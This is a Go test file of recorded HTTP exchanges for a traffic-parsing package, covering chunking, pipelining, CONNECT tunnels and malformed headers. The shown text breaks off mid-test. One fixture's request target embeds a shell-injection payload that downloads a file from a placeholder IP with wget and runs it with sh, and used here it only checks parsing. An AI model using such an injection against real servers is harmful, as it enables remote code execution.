// Real-world exchanges, each with concrete expectations. The same table
// drives the split and truncation tests in split_test.go.

package http

import (
	"strconv"
	"strings"
	"testing"
)

type exchange struct {
	name  string
	lim   Limits
	evs   []event
	check func(t *testing.T, txs []*Transaction)
}

// want1 asserts there is exactly n transactions.
func wantN(t *testing.T, txs []*Transaction, n int) bool {
	t.Helper()
	if len(txs) != n {
		for _, tx := range txs {
			t.Log(dump(tx))
		}
		t.Fatalf("got %d transactions, want %d", len(txs), n)
		return false
	}
	return true
}

func noAnomalies(t *testing.T, txs []*Transaction) {
	t.Helper()
	for i, tx := range txs {
		if len(tx.Anomalies) != 0 {
			t.Errorf("tx %d anomalies %v", i, tx.Anomalies)
		}
	}
}

const pyBoundary = "2a8ae6ad8b7d4bd0b1ef7ae6d0b0a2c1"

// pyFile has a false delimiter start inside it: "\r\n--" + a prefix of the
// boundary, which must stay part of the data.
const pyFile = "user=root\npass=hunter2\r\n--2a8ae6adXX not a boundary\r\nend"

func pythonMultipart() (head, body string) {
	var b strings.Builder
	b.WriteString("--" + pyBoundary + "\r\n")
	b.WriteString("Content-Disposition: form-data; name=\"note\"\r\n\r\n")
	b.WriteString("hello")
	b.WriteString("\r\n--" + pyBoundary + "\r\n")
	b.WriteString("Content-Disposition: form-data; name=\"file\"; filename=\"secrets.txt\"\r\n")
	b.WriteString("Content-Type: text/plain\r\n\r\n")
	b.WriteString(pyFile)
	b.WriteString("\r\n--" + pyBoundary + "--\r\n")
	body = b.String()
	head = "POST /upload HTTP/1.1\r\n" +
		"Host: 10.0.0.5:8080\r\n" +
		"User-Agent: python-requests/2.31.0\r\n" +
		"Accept-Encoding: gzip, deflate\r\n" +
		"Accept: */*\r\n" +
		"Connection: keep-alive\r\n" +
		"Content-Length: " + strconv.Itoa(len(body)) + "\r\n" +
		"Content-Type: multipart/form-data; boundary=" + pyBoundary + "\r\n\r\n"
	return head, body
}

func exchanges() []exchange {
	pyHead, pyBody := pythonMultipart()
	return []exchange{
		{
			name: "curl GET",
			evs: append([]event{
				cli("GET /index.html?q=1 HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n"),
				srv("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Length: 13\r\n\r\n<html></html>"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				r, resp := txs[0].Request, txs[0].Response
				check(t, "Method", r.Method, "GET")
				check(t, "Target", r.Target, "/index.html?q=1")
				check(t, "Version", r.Version, "1.1")
				check(t, "Host", r.Host, "example.com")
				check(t, "UserAgent", r.UserAgent, "curl/8.5.0")
				check(t, "ContentLength", r.ContentLength, int64(-1))
				check(t, "HeaderBytes", r.HeaderBytes, int64(len("GET /index.html?q=1 HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n")))
				check(t, "BodyBytes", r.BodyBytes, int64(0))
				check(t, "BodyComplete", r.BodyComplete, true)
				check(t, "BodySHA256", r.BodySHA256, sum(""))
				check(t, "Start", r.Start, at(0))
				check(t, "End", r.End, at(0))
				check(t, "StatusCode", resp.StatusCode, 200)
				check(t, "Reason", resp.Reason, "OK")
				check(t, "resp.ContentType", resp.ContentType, "text/html; charset=UTF-8")
				check(t, "resp.ContentLength", resp.ContentLength, int64(13))
				check(t, "resp.BodyBytes", resp.BodyBytes, int64(13))
				check(t, "resp.BodyComplete", resp.BodyComplete, true)
				check(t, "resp.Start", resp.Start, at(1))
				check(t, "resp.End", resp.End, at(1))
			},
		},
		{
			name: "wget GET with chunked response",
			evs: append([]event{
				cli("GET /file.tar.gz HTTP/1.1\r\nUser-Agent: Wget/1.21.4\r\nAccept: */*\r\nAccept-Encoding: identity\r\nHost: dl.example.org\r\nConnection: Keep-Alive\r\n\r\n"),
				srv("HTTP/1.1 200 OK\r\nContent-Type: application/gzip\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nWiki\r\n5\r\npedia\r\nE\r\n in\r\n\r\nchunks.\r\n0\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				r, resp := txs[0].Request, txs[0].Response
				check(t, "UserAgent", r.UserAgent, "Wget/1.21.4")
				check(t, "Connection", r.Connection, "Keep-Alive")
				check(t, "Host", r.Host, "dl.example.org")
				check(t, "resp.Chunked", resp.Chunked, true)
				check(t, "resp.ContentLength", resp.ContentLength, int64(-1))
				check(t, "resp.BodyBytes", resp.BodyBytes, int64(23))
				check(t, "resp.BodyComplete", resp.BodyComplete, true)
				check(t, "resp.End", resp.End, at(1))
			},
		},
		{
			name: "python requests multipart upload",
			evs: append([]event{
				cli(pyHead + pyBody),
				srv("HTTP/1.1 200 OK\r\nServer: Werkzeug/3.0.1 Python/3.12.1\r\nContent-Type: application/json\r\nContent-Length: 16\r\nConnection: close\r\n\r\n{\"status\":\"ok\"}\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				r := txs[0].Request
				check(t, "ContentLength", r.ContentLength, int64(len(pyBody)))
				check(t, "BodyBytes", r.BodyBytes, int64(len(pyBody)))
				check(t, "BodySHA256", r.BodySHA256, sum(pyBody))
				check(t, "BodyHashValid", r.BodyHashValid, true)
				check(t, "ContentType", r.ContentType, "multipart/form-data; boundary="+pyBoundary)
				check(t, "Multipart", r.Multipart, []Part{
					{Name: "note", Bytes: 5, SHA256: sum("hello"), HashValid: true},
					{Name: "file", Filename: "secrets.txt", ContentType: "text/plain", Bytes: int64(len(pyFile)), SHA256: sum(pyFile), HashValid: true},
				})
				check(t, "resp.ContentType", txs[0].Response.ContentType, "application/json")
				check(t, "resp.BodyBytes", txs[0].Response.BodyBytes, int64(16))
			},
		},
		{
			name: "chunked upload with extensions and trailers",
			evs: append([]event{
				cli("POST /ingest HTTP/1.1\r\nHost: h\r\nUser-Agent: curl/8.5.0\r\nTransfer-Encoding: chunked\r\nContent-Type: application/octet-stream\r\n\r\n"),
				cli("5;name=val\r\nhello\r\n6 ; ext=\"q;x\"\r\n world\r\n0\r\nX-Checksum: abc\r\nX-Other: d\r\n\r\n"),
				srv("HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				r := txs[0].Request
				check(t, "Chunked", r.Chunked, true)
				check(t, "TransferEncoding", r.TransferEncoding, "chunked")
				check(t, "ContentLength", r.ContentLength, int64(-1))
				check(t, "BodyBytes", r.BodyBytes, int64(11))
				check(t, "BodySHA256", r.BodySHA256, sum("hello world"))
				check(t, "BodyComplete", r.BodyComplete, true)
				check(t, "End", r.End, at(1))
				check(t, "StatusCode", txs[0].Response.StatusCode, 201)
			},
		},
		{
			name: "Expect 100-continue with interim 100",
			evs: append([]event{
				cli("PUT /big.bin HTTP/1.1\r\nHost: h\r\nContent-Length: 10\r\nExpect: 100-continue\r\n\r\n"),
				srv("HTTP/1.1 100 Continue\r\n\r\n"),
				cli("0123456789"),
				srv("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				r, resp := txs[0].Request, txs[0].Response
				check(t, "Expect100", r.Expect100, true)
				check(t, "BodyBytes", r.BodyBytes, int64(10))
				check(t, "BodySHA256", r.BodySHA256, sum("0123456789"))
				check(t, "End", r.End, at(2))
				check(t, "Informational", resp.Informational, []int{100})
				check(t, "StatusCode", resp.StatusCode, 200)
				check(t, "resp.Start", resp.Start, at(1))
				check(t, "resp.End", resp.End, at(3))
				check(t, "resp.BodyBytes", resp.BodyBytes, int64(2))
			},
		},
		{
			name: "Expect 100-continue refused, next request instead of body",
			evs: append([]event{
				cli("POST /up HTTP/1.1\r\nHost: h\r\nContent-Length: 1000\r\nExpect: 100-continue\r\n\r\n"),
				srv("HTTP/1.1 417 Expectation Failed\r\nContent-Length: 0\r\n\r\n"),
				cli("GET /ne"),
				cli("xt HTTP/1.1\r\nHost: h\r\n\r\n"),
				srv("HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				check(t, "anomalies", anomalyNames(txs[0]), []string{AnomalyExpectBodyNotSent})
				check(t, "End", txs[0].Request.End, at(2))
				check(t, "Start 2", txs[1].Request.Start, at(2))
				check(t, "End 2", txs[1].Request.End, at(3))
				check(t, "BodyBytes", txs[0].Request.BodyBytes, int64(0))
				check(t, "BodyComplete", txs[0].Request.BodyComplete, false)
				check(t, "StatusCode", txs[0].Response.StatusCode, 417)
				check(t, "Target 2", txs[1].Request.Target, "/next")
				check(t, "StatusCode 2", txs[1].Response.StatusCode, 200)
			},
		},
		{
			name: "pipelined GETs",
			evs: append([]event{
				cli("GET /1 HTTP/1.1\r\nHost: h\r\n\r\nGET /2 HTTP/1.1\r\nHost: h\r\n\r\nGET /3 HTTP/1.1\r\nHost: h\r\n\r\n"),
				srv("HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\na"),
				srv("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nbb\r\n0\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 3)
				noAnomalies(t, txs)
				for i, want := range []struct {
					target string
					code   int
					body   int64
				}{{"/1", 200, 1}, {"/2", 404, 0}, {"/3", 200, 2}} {
					check(t, "Target", txs[i].Request.Target, want.target)
					check(t, "StatusCode", txs[i].Response.StatusCode, want.code)
					check(t, "resp.BodyBytes", txs[i].Response.BodyBytes, want.body)
					check(t, "Start", txs[i].Request.Start, at(0))
				}
				check(t, "resp 3 Start", txs[2].Response.Start, at(2))
			},
		},
		{
			name: "HEAD, 204 and 304 have no body",
			evs: append([]event{
				cli("HEAD /x HTTP/1.1\r\nHost: h\r\n\r\nDELETE /y HTTP/1.1\r\nHost: h\r\n\r\nGET /z HTTP/1.1\r\nHost: h\r\nIf-None-Match: \"e\"\r\n\r\n"),
				srv("HTTP/1.1 200 OK\r\nContent-Length: 1234\r\n\r\nHTTP/1.1 204 No Content\r\n\r\nHTTP/1.1 304 Not Modified\r\nETag: \"e\"\r\nContent-Length: 99\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 3)
				noAnomalies(t, txs)
				check(t, "HEAD ContentLength", txs[0].Response.ContentLength, int64(1234))
				for i, code := range []int{200, 204, 304} {
					check(t, "StatusCode", txs[i].Response.StatusCode, code)
					check(t, "resp.BodyBytes", txs[i].Response.BodyBytes, int64(0))
					check(t, "resp.BodyComplete", txs[i].Response.BodyComplete, true)
				}
			},
		},
		{
			name: "close-delimited response",
			evs: []event{
				cli("GET /stream HTTP/1.0\r\nUser-Agent: Lynx/2.9\r\n\r\n"),
				srv("HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nall of this "),
				srv("runs until close"),
				endEv(toSrv),
				endEv(toCli),
			},
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				resp := txs[0].Response
				check(t, "Version", txs[0].Request.Version, "1.0")
				check(t, "resp.Version", resp.Version, "1.0")
				check(t, "resp.ContentLength", resp.ContentLength, int64(-1))
				check(t, "resp.BodyBytes", resp.BodyBytes, int64(len("all of this runs until close")))
				check(t, "resp.BodyComplete", resp.BodyComplete, true)
				check(t, "resp.End", resp.End, at(4))
			},
		},
		{
			name: "HTTP/1.0 keep-alive",
			evs: append([]event{
				cli("GET /a HTTP/1.0\r\nConnection: keep-alive\r\n\r\n"),
				srv("HTTP/1.0 200 OK\r\nConnection: keep-alive\r\nContent-Length: 3\r\n\r\nAAA"),
				cli("POST /b HTTP/1.0\r\nConnection: keep-alive\r\nContent-Length: 4\r\n\r\nBBBB"),
				srv("HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				noAnomalies(t, txs)
				check(t, "Connection", txs[0].Request.Connection, "keep-alive")
				check(t, "resp 1 body", txs[0].Response.BodyBytes, int64(3))
				check(t, "Method 2", txs[1].Request.Method, "POST")
				check(t, "BodySHA256 2", txs[1].Request.BodySHA256, sum("BBBB"))
				check(t, "Start 2", txs[1].Request.Start, at(2))
			},
		},
		{
			name: "CONNECT tunnel",
			evs: append([]event{
				cli("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\nUser-Agent: curl/8.5.0\r\nProxy-Connection: Keep-Alive\r\n\r\n"),
				srv("HTTP/1.1 200 Connection established\r\n\r\n"),
				cli("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03GET / HTTP/1.1\r\n\r\n"),
				srv("\x16\x03\x03\x00\x7a\x02\x00\x00\x76HTTP/1.1 200 OK\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				check(t, "Method", txs[0].Request.Method, "CONNECT")
				check(t, "Target", txs[0].Request.Target, "example.com:443")
				check(t, "StatusCode", txs[0].Response.StatusCode, 200)
				check(t, "resp.BodyBytes", txs[0].Response.BodyBytes, int64(0))
			},
		},
		{
			// A proxy tunnel carrying plain HTTP is parsed on (tshark and
			// Suricata do the same); TLS or a server-first protocol is not.
			name: "CONNECT tunnel carrying plain HTTP",
			evs: append([]event{
				cli("CONNECT abc:443 HTTP/1.1\r\nHost: abc:443\r\n\r\n\n"),
				srv("HTTP/1.1 200 Connection established\r\n\r\n\n"),
				cli("POST /in-tunnel HTTP/1.1\r\nHost: abc\r\nContent-Length: 4\r\n\r\ndata"),
				srv("HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				noAnomalies(t, txs)
				check(t, "Method 1", txs[0].Request.Method, "CONNECT")
				check(t, "Method 2", txs[1].Request.Method, "POST")
				check(t, "Target 2", txs[1].Request.Target, "/in-tunnel")
				check(t, "BodyBytes 2", txs[1].Request.BodyBytes, int64(4))
				check(t, "StatusCode 2", txs[1].Response.StatusCode, 201)
			},
		},
		{
			name: "CONNECT tunnel to a server-first protocol",
			evs: append([]event{
				cli("CONNECT mail.example:25 HTTP/1.0\r\n\r\n"),
				srv("HTTP/1.0 200 OK\r\n\r\n220 mail.example ESMTP\r\n"),
				cli("EHLO x\r\nPOST / HTTP/1.1\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				check(t, "Method", txs[0].Request.Method, "CONNECT")
			},
		},
		{
			// The target ends at the first space, as tshark and Suricata read it.
			name: "raw space inside the target",
			evs: append([]event{
				cli("GET /shell?cd+/tmp;wget+ http://203.0.113.9/x;sh+x HTTP/1.1\r\nHost: h\r\n\r\n"),
				srv("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				check(t, "Target", txs[0].Request.Target, "/shell?cd+/tmp;wget+")
				check(t, "Version", txs[0].Request.Version, "1.1")
				check(t, "StatusCode", txs[0].Response.StatusCode, 404)
			},
		},
		{
			// A malformed status code keeps its leading digits, so the
			// response is still framed and counted.
			name: "non-numeric status code",
			evs: append([]event{
				cli("GET /test HTTP/1.1\r\nHost: h\r\n\r\n"),
				srv("HTTP/1.0 2XX OK\r\nContent-Length:4\r\n\r\ntoto"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				check(t, "StatusCode", txs[0].Response.StatusCode, 2)
				check(t, "resp.BodyBytes", txs[0].Response.BodyBytes, int64(4))
			},
		},
		{
			name: "CONNECT with early tunnel bytes",
			evs: append([]event{
				cli("CONNECT 10.1.1.1:8443 HTTP/1.1\r\nHost: 10.1.1.1:8443\r\n\r\n\x16\x03\x01\x00\x05hello\n"),
				srv("HTTP/1.1 200 OK\r\n\r\n\x16\x03\x03"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				check(t, "StatusCode", txs[0].Response.StatusCode, 200)
			},
		},
		{
			name: "CONNECT refused, then retried with credentials",
			evs: append([]event{
				cli("CONNECT files.example:443 HTTP/1.1\r\nHost: files.example:443\r\n\r\n"),
				srv("HTTP/1.1 407 Proxy Authentication Required\r\nProxy-Authenticate: Basic realm=\"p\"\r\nContent-Length: 6\r\n\r\ndenied"),
				cli("CONNECT files.example:443 HTTP/1.1\r\nHost: files.example:443\r\nProxy-Authorization: Basic dTpw\r\n\r\n"),
				srv("HTTP/1.1 200 Connection established\r\n\r\n"),
				cli("\x16\x03\x01\x00\x10GET / HTTP/1.1\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				noAnomalies(t, txs)
				check(t, "StatusCode 1", txs[0].Response.StatusCode, 407)
				check(t, "resp.BodyBytes 1", txs[0].Response.BodyBytes, int64(6))
				check(t, "StatusCode 2", txs[1].Response.StatusCode, 200)
				check(t, "Start 2", txs[1].Request.Start, at(2))
			},
		},
		{
			name: "101 websocket upgrade",
			evs: append([]event{
				cli("GET /chat HTTP/1.1\r\nHost: server.example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"),
				srv("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n\x81\x05hello"),
				cli("\x81\x85\x37\xfa\x21\x3d\x7f\x9f\x4d\x51\x58GET /evil HTTP/1.1\r\nHost: x\r\n\r\n"),
				srv("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				check(t, "Connection", txs[0].Request.Connection, "Upgrade")
				check(t, "StatusCode", txs[0].Response.StatusCode, 101)
				check(t, "Informational", txs[0].Response.Informational, []int(nil))
			},
		},
		{
			name: "HTTP/0.9 simple request",
			evs: []event{
				cli("GET /path\r\n"),
				srv("<html>raw 0.9 body\n"),
				srv("no headers</html>"),
				endEv(toCli),
				endEv(toSrv),
			},
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				r, resp := txs[0].Request, txs[0].Response
				check(t, "Version", r.Version, "0.9")
				check(t, "Target", r.Target, "/path")
				check(t, "BodyComplete", r.BodyComplete, true)
				check(t, "resp.Version", resp.Version, "0.9")
				check(t, "resp.StatusCode", resp.StatusCode, 0)
				check(t, "resp.BodyBytes", resp.BodyBytes, int64(len("<html>raw 0.9 body\nno headers</html>")))
				check(t, "resp.BodyComplete", resp.BodyComplete, true)
				check(t, "resp.Start", resp.Start, at(1))
			},
		},
		{
			name: "bare LF line endings",
			evs: append([]event{
				cli("POST /nocrlf HTTP/1.1\nHost: h\nContent-Length: 3\n\nabc"),
				srv("HTTP/1.1 200 OK\nContent-Length: 2\n\nok"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				check(t, "Host", txs[0].Request.Host, "h")
				check(t, "HeaderBytes", txs[0].Request.HeaderBytes, int64(len("POST /nocrlf HTTP/1.1\nHost: h\nContent-Length: 3\n\n")))
				check(t, "BodySHA256", txs[0].Request.BodySHA256, sum("abc"))
				check(t, "resp.BodyBytes", txs[0].Response.BodyBytes, int64(2))
			},
		},
		{
			name: "obs-fold and case-insensitive names",
			evs: append([]event{
				cli("GET / HTTP/1.1\r\nhOsT: h\r\nUSER-AGENT: Mozilla/5.0\r\n\t(X11; Linux x86_64)\r\ncontent-encoding: gzip\r\nContent-Encoding: br\r\nConnection: keep-alive,\r\n Upgrade\r\n\r\n"),
				srv("HTTP/1.1 200 OK\r\ncontent-length: 0\r\nCONTENT-ENCODING: gzip\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				r := txs[0].Request
				check(t, "Host", r.Host, "h")
				check(t, "UserAgent", r.UserAgent, "Mozilla/5.0 (X11; Linux x86_64)")
				check(t, "ContentEncoding", r.ContentEncoding, "gzip, br")
				check(t, "Connection", r.Connection, "keep-alive, Upgrade")
				check(t, "resp.ContentEncoding", txs[0].Response.ContentEncoding, "gzip")
			},
		},
		{
			name: "multiple differing Content-Length: largest wins",
			evs: append([]event{
				cli("POST /a HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\nabcdeGET /b HTTP/1.1\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				check(t, "anomalies", anomalyNames(txs[0]), []string{AnomalyMultipleContentLength})
				check(t, "ContentLength", txs[0].Request.ContentLength, int64(5))
				check(t, "BodySHA256", txs[0].Request.BodySHA256, sum("abcde"))
				check(t, "Target 2", txs[1].Request.Target, "/b")
				check(t, "Response", txs[0].Response == nil, true)
			},
		},
		{
			name: "identical repeated Content-Length is fine",
			evs: append([]event{
				cli("POST /a HTTP/1.1\r\nContent-Length: 2, 2\r\nContent-Length: 2\r\n\r\nab"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				check(t, "BodyBytes", txs[0].Request.BodyBytes, int64(2))
			},
		},
		{
			name: "Content-Length and chunked: chunked wins",
			evs: append([]event{
				cli("POST /a HTTP/1.1\r\nContent-Length: 100\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				check(t, "anomalies", anomalyNames(txs[0]), []string{AnomalyContentLengthChunked})
				check(t, "Chunked", txs[0].Request.Chunked, true)
				check(t, "ContentLength", txs[0].Request.ContentLength, int64(100))
				check(t, "BodyBytes", txs[0].Request.BodyBytes, int64(3))
				check(t, "Target 2", txs[1].Request.Target, "/b")
			},
		},
		{
			name: "bad Content-Length is ignored",
			evs: append([]event{
				cli("POST /a HTTP/1.1\r\nContent-Length: 12abc\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				check(t, "anomalies", anomalyNames(txs[0]), []string{AnomalyBadContentLength})
				check(t, "Detail", txs[0].Anomalies[0].Detail, "12abc")
				check(t, "ContentLength", txs[0].Request.ContentLength, int64(-1))
				check(t, "Target 2", txs[1].Request.Target, "/b")
			},
		},
		{
			name: "bad chunk size then resync",
			evs: append([]event{
				cli("POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\nzz\r\ngarbage\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\n"),
				srv("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				check(t, "anomalies", anomalyNames(txs[0]), []string{AnomalyBadChunkSize})
				check(t, "BodyBytes", txs[0].Request.BodyBytes, int64(3))
				check(t, "BodyComplete", txs[0].Request.BodyComplete, false)
				check(t, "BodyHashValid", txs[0].Request.BodyHashValid, false)
				check(t, "anomalies 2", anomalyNames(txs[1]), []string{AnomalyResync})
				check(t, "skipped", txs[1].Anomalies[0].Observed, int64(len("garbage\r\n")))
				check(t, "Target 2", txs[1].Request.Target, "/b")
				check(t, "StatusCode 2", txs[1].Response.StatusCode, 200)
			},
		},
		{
			name: "mid-stream start skips to a request line",
			evs: append([]event{
				cli("tail of some earlier body\r\nmore\x00binary\nGET /fresh HTTP/1.1\r\nHost: h\r\n\r\n"),
				srv("x\r\n0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nz"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				check(t, "Target", txs[0].Request.Target, "/fresh")
				check(t, "StatusCode", txs[0].Response.StatusCode, 200)
				check(t, "anomalies", anomalyNames(txs[0]), []string{AnomalyResync, AnomalyResync})
			},
		},
		{
			name: "unmatched response",
			evs: append([]event{
				srv("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				check(t, "anomalies", anomalyNames(txs[0]), []string{AnomalyUnmatchedResponse})
				check(t, "Method", txs[0].Request.Method, "")
				check(t, "ContentLength", txs[0].Request.ContentLength, int64(-1))
				check(t, "resp.BodyBytes", txs[0].Response.BodyBytes, int64(2))
			},
		},
		{
			name: "request without response is flushed at close",
			evs: append([]event{
				cli("GET /lost HTTP/1.1\r\nHost: h\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				check(t, "Response", txs[0].Response == nil, true)
			},
		},
		{
			name: "upload cut by close",
			evs: []event{
				cli("PUT /f HTTP/1.1\r\nContent-Length: 10\r\n\r\n12345"),
				endEv(toSrv),
				endEv(toCli),
			},
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				r := txs[0].Request
				check(t, "BodyBytes", r.BodyBytes, int64(5))
				check(t, "BodyComplete", r.BodyComplete, false)
				check(t, "BodyHashValid", r.BodyHashValid, false)
				check(t, "End", r.End, at(1))
			},
		},
		{
			name: "early response to an upload in progress",
			evs: append([]event{
				cli("POST /big HTTP/1.1\r\nContent-Length: 6\r\n\r\nabc"),
				srv("HTTP/1.1 413 Payload Too Large\r\nContent-Length: 0\r\n\r\n"),
				cli("def"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				check(t, "BodySHA256", txs[0].Request.BodySHA256, sum("abcdef"))
				check(t, "StatusCode", txs[0].Response.StatusCode, 413)
			},
		},
		{
			name: "chunked Expect 100-continue refused",
			evs: append([]event{
				cli("POST /up HTTP/1.1\r\nTransfer-Encoding: chunked\r\nExpect: 100-continue\r\n\r\n"),
				srv("HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n"),
				cli("POST /up HTTP/1.1\r\nAuthorization: Basic eDp5\r\nContent-Length: 2\r\n\r\nok"),
				srv("HTTP/1.1 204 No Content\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				check(t, "anomalies", anomalyNames(txs[0]), []string{AnomalyExpectBodyNotSent})
				check(t, "BodyComplete", txs[0].Request.BodyComplete, false)
				check(t, "Start 2", txs[1].Request.Start, at(2))
				check(t, "BodySHA256 2", txs[1].Request.BodySHA256, sum("ok"))
				check(t, "StatusCode 2", txs[1].Response.StatusCode, 204)
			},
		},
		{
			name: "bad status line in sync",
			evs: append([]event{
				cli("GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"),
				srv("HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nxJUNK JUNK\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				check(t, "anomalies 1", anomalyNames(txs[0]), []string(nil))
				check(t, "anomalies 2", anomalyNames(txs[1]), []string{AnomalyBadStatusLine, AnomalyResync})
				check(t, "Detail", txs[1].Anomalies[0].Detail, "JUNK JUNK")
				check(t, "StatusCode 2", txs[1].Response.StatusCode, 200)
			},
		},
		{
			name: "bad request line in sync",
			evs: append([]event{
				cli("GET /1 HTTP/1.1\r\n\r\nhello there\r\nGET /2 HTTP/1.1\r\n\r\n"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 2)
				check(t, "anomalies 2", anomalyNames(txs[1]), []string{AnomalyBadRequestLine, AnomalyResync})
				check(t, "Detail", txs[1].Anomalies[0].Detail, "hello there")
				check(t, "skipped", txs[1].Anomalies[1].Observed, int64(len("hello there\r\n")))
			},
		},
		{
			name: "HTTP/0.9 request answered in HTTP/1.1",
			evs: append([]event{
				cli("GET /old\r\n"),
				srv("HTTP/1.1 400 Bad Request\r\nContent-Length: 3\r\nConnection: close\r\n\r\nbad"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				check(t, "Version", txs[0].Request.Version, "0.9")
				check(t, "resp.Version", txs[0].Response.Version, "1.1")
				check(t, "StatusCode", txs[0].Response.StatusCode, 400)
				check(t, "resp.BodyBytes", txs[0].Response.BodyBytes, int64(3))
			},
		},
		{
			name: "fold with nothing to continue",
			evs: append([]event{
				cli("GET / HTTP/1.1\r\n  folded\r\nHost: h\r\n\r\n"),
